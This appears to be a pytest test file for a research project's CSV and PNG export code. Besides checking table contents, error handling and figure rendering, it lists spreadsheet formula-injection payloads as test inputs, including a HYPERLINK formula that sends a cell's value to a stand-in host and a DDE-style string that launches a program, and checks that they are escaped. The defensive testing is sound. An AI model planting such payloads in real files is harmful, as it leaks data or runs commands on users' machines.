import csv
import re
import shutil
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from interp_transfer.plots.style import styles
from interp_transfer.reporting import exports
from interp_transfer.reporting.exports import DANGEROUS, ESCAPED, HEAD, WIDTH, browser, figures, write_csv, write_png
from interp_transfer.reporting.run_folder import read_run

Save = Callable[[dict[str, Any], dict[str, Any]], Path]
Json = dict[str, Any]

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "+1+1",
    "-2+3|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''@x",
)
HARMLESS = ("plain", " =1 is not read", "a-b", "'quoted'", "", 'with "quotes", commas; and\nlines', "\u0634\u0628\u0643\u0629")


def read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, keep_default_na=False)


def test_the_tables_hold_what_the_run_holds(save: Save, result: Json, completions: Json) -> None:
    share = {"rate": 0.25, "low": 0.1, "high": 0.5, "n": 8}
    result["conditions"]["native"]["readings"] = {"second judge": share}
    completions["conditions"]["moved"][3]["differ"] = True
    folder = save(result, completions)
    written = write_csv(folder)
    assert [p.stem for p in written] == [
        *("conditions", "at_strength_one", "sweep", "variants", "readings", "side_effects", "by_token", "completions")
    ]
    assert {p.parent for p in written} == {folder}
    assert not list(folder.glob(".*"))
    conditions = read(folder / "conditions.csv").set_index("condition")
    assert list(conditions.index) == list(result["conditions"])
    for name, c in result["conditions"].items():
        row = conditions.loc[name]
        assert (row["strength"], row["clean_kl"]) == (c["strength"], c["clean_kl"])
        for measure in ("success", "intact"):
            ends = [row[measure], *(row[f"{measure}_{end}"] for end in ("low", "high", "n"))]
            assert ends == list(c[measure].values())
    assert len(read(folder / "sweep.csv")) == len(result["sweep"])
    variants = read(folder / "variants.csv")
    assert list(variants["cosine_to_native"]) == [v["cosine_to_native"] for v in result["variants"]]
    assert read(folder / "readings.csv").to_dict("records") == [{"condition": "native", "reading": "second judge", **share}]
    effects: dict[Any, dict[Any, Any]] = {
        (row["condition"], row["of"], row["measure"]): row for row in read(folder / "side_effects.csv").to_dict("records")
    }
    for name, found in result["side_effects"].items():
        row = effects[name, "english", "kl"]
        assert [row[end] for end in ("value", "low", "high", "n")] == list(found["english"]["kl"].values())
        for skill, able in found["skills"].items():
            row = effects[name, "skills", skill]
            assert [row[end] for end in ("value", "low", "high", "n")] == list(able.values())
        assert effects[name, "", "clean_valid"]["value"] == found["clean_valid"]["rate"]
    fits: dict[Any, dict[Any, Any]] = {row["class"]: row for row in read(folder / "by_token.csv").to_dict("records")}
    there = result["mapper"]["by_place"]["place"]["trigger"]
    assert float(fits["trigger"]["fvu_high"]) == there["fvu"]["high"] and fits["trigger"]["rows"] == there["n"]
    assert fits["first"]["fvu"] == ""
    said = read(folder / "completions.csv")
    assert len(said) == 200 * 7
    moved = said[said["condition"] == "moved"]
    assert list(moved["prompt"]) == completions["prompts"]
    assert list(moved["completion"]) == [c["completion"] for c in completions["conditions"]["moved"]]
    assert list(moved["intact"]) == [c["intact"] for c in completions["conditions"]["moved"]]
    assert list(moved["prompt_index"][moved["differ"]]) == [3]


def test_no_cell_of_foreign_text_is_a_formula_and_each_comes_back(save: Save, result: Json, completions: Json) -> None:
    texts = [*FORMULAS, *HARMLESS]
    for index, text in enumerate(texts):
        completions["conditions"]["moved"][index] |= {"completion": text, "reason": text}
        completions["prompts"][index] = text
    result["conditions"]["=cmd"] = {**result["conditions"]["native"], "note": "@note"}
    completions["conditions"]["=cmd"] = completions["conditions"]["native"]
    folder = save(result, completions)
    write_csv(folder)
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row if not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]
        assert not [cell for cell in cells if re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)], path.name
    with (folder / "completions.csv").open(encoding="utf-8", newline="") as lines:
        rows = [row for row in csv.DictReader(lines) if row["condition"] == "moved"]
    for row, text in zip(rows, texts, strict=False):
        for field in ("prompt", "completion", "reason"):
            cell = row[field]
            assert (cell != text) == bool(DANGEROUS.match(text))
            assert (cell[1:] if ESCAPED.match(cell) else cell) == text
    assert "'=cmd" in (folder / "conditions.csv").read_text()


def test_numbers_below_zero_stay_numbers(save: Save, result: Json, completions: Json) -> None:
    result["variants"][0]["cosine_to_native"] = -0.25
    folder = save(result, completions)
    write_csv(folder)
    assert read(folder / "variants.csv")["cosine_to_native"][0] == -0.25


def test_tables_that_a_run_lacks_are_not_written(save: Save, result: Json, completions: Json) -> None:
    for key in ("sweep", "at_strength_one", "variants"):
        del result[key]
    del result["side_effects"], result["mapper"]["by_place"]
    assert [p.name for p in write_csv(save(result, completions))] == ["conditions.csv", "completions.csv"]


def test_a_folder_that_cannot_be_written_keeps_its_tables(
    save: Save, result: Json, completions: Json, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = save(result, completions)
    (folder / "completions.csv").write_text("old")
    whole = Path.write_bytes

    def full(path: Path, data: bytes) -> int:
        if "completions" in path.name:
            raise OSError(28, "No space left on device")
        return whole(path, data)

    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(ValueError, match="cannot write into .*No space left"):
        write_csv(folder)
    assert (folder / "completions.csv").read_text() == "old"
    assert sorted(p.name for p in folder.iterdir()) == ["completions.csv", "completions.json", "result.json"]


def test_what_is_no_run_is_refused(tmp_path: Path) -> None:
    for write in (write_csv, write_png):
        with pytest.raises(ValueError, match="result.json is missing"):
            write(tmp_path)
    assert not list(tmp_path.iterdir())


def test_without_a_browser_nothing_is_written(
    save: Save, result: Json, completions: Json, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = save(result, completions)
    monkeypatch.setattr(exports, "BROWSERS", ("no-such-browser",))
    with pytest.raises(ValueError, match="neither is on the PATH: install one"):
        write_png(folder)
    assert sorted(p.name for p in folder.iterdir()) == ["completions.json", "result.json"]


@pytest.mark.parametrize(
    ("script", "says"), [("echo cannot start >&2; exit 3", "exit code 3; cannot start"), ("exit 0", "says nothing")]
)
def test_a_browser_that_fails_is_named(
    save: Save, result: Json, completions: Json, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, script: str, says: str
) -> None:
    fake = tmp_path / "fake"
    fake.write_text(f"#!/bin/sh\n{script}\n")
    fake.chmod(0o755)
    monkeypatch.setattr(exports, "BROWSERS", (str(fake),))
    folder = save(result, completions)
    with pytest.raises(ValueError, match=f"fake drew no figure .*{says}"):
        write_png(folder)
    assert not (folder / exports.FIGURES).exists()


def test_a_run_without_a_sweep_has_one_figure(save: Save, result: Json, completions: Json) -> None:
    assert list(figures(read_run(save(result, completions)).result)) == ["conditions", "strength"]
    del result["sweep"]
    assert list(figures(read_run(save(result, completions)).result)) == ["conditions"]


def pixels(path: Path) -> tuple[int, int, dict[tuple[int, ...], int]]:
    """Width, height, and how often each colour comes, of an RGB PNG of eight bits without interlacing."""
    data, place, packed = path.read_bytes(), 8, b""
    width, height, *kind = struct.unpack(">IIBBBBB", data[16:29])
    assert kind == [8, 2, 0, 0, 0]
    while place < len(data):
        (size,) = struct.unpack(">I", data[place : place + 4])
        packed += data[place + 8 : place + 8 + size] if data[place + 4 : place + 8] == b"IDAT" else b""
        place += size + 12
    raw, row, counts = zlib.decompress(packed), bytearray(3 * width), {}
    for y in range(height):
        start = y * (3 * width + 1)
        row = unfiltered(raw[start], raw[start + 1 : start + 1 + 3 * width], row)
        for x in range(0, 3 * width, 3):
            colour = tuple(row[x : x + 3])
            counts[colour] = counts.get(colour, 0) + 1
    return width, height, counts


def unfiltered(kind: int, line: bytes, above: bytearray) -> bytearray:
    """A line of a PNG, by its specification."""
    out = bytearray(line)
    for i in range(len(out) if kind else 0):
        left, up, corner = (out[i - 3], above[i], above[i - 3]) if i >= 3 else (0, above[i], 0)
        nearest = min((left, up, corner), key=lambda v: abs(left + up - corner - v))
        out[i] = (out[i] + (0, left, up, (left + up) // 2, nearest)[kind]) % 256
    return out


@pytest.mark.slow
def test_figures_are_drawn_on_white(save: Save, result: Json, completions: Json, monkeypatch: pytest.MonkeyPatch) -> None:
    if not any(map(shutil.which, exports.BROWSERS)):
        pytest.skip("no Chromium on this machine")
    monkeypatch.setattr(exports, "SCALE", 1)
    result["source"]["name"] = "<b>bold</b>\u202e"
    folder = save(result, completions)
    made = figures(read_run(folder).result)
    written = write_png(folder)
    assert [p.name for p in written] == ["conditions.png", "strength.png"]
    assert sorted(p.name for p in (folder / exports.FIGURES).iterdir()) == ["conditions.png", "strength.png"]
    for path in written:
        width, height, counts = pixels(path)
        assert (width, height) == (WIDTH, HEAD + made[path.stem].to_dict()["layout"]["height"])
        assert max(counts, key=counts.__getitem__) == (255, 255, 255)
        for name in ("native", "moved"):
            colour = styles([name])[name].colour
            assert counts.get(tuple(int(colour[i : i + 2], 16) for i in (1, 3, 5)), 0) > 100, (path.name, name)


def test_the_browser_is_the_first_that_is_there(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in ("google-chrome", "chromium-browser"):
        (tmp_path / name).write_text("")
        (tmp_path / name).chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert browser() == str(tmp_path / "chromium-browser")
